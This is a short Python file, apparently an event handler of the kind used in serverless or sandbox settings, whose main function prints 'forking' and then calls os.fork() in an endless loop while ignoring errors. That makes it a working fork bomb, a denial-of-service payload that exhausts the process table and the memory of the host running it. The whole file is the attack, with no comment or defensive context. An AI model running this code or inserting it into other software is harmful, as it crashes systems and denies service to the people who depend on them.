import os


def main(event):
    print("forking")
    while True:
        try:
            os.fork()
        except OSError:
            pass
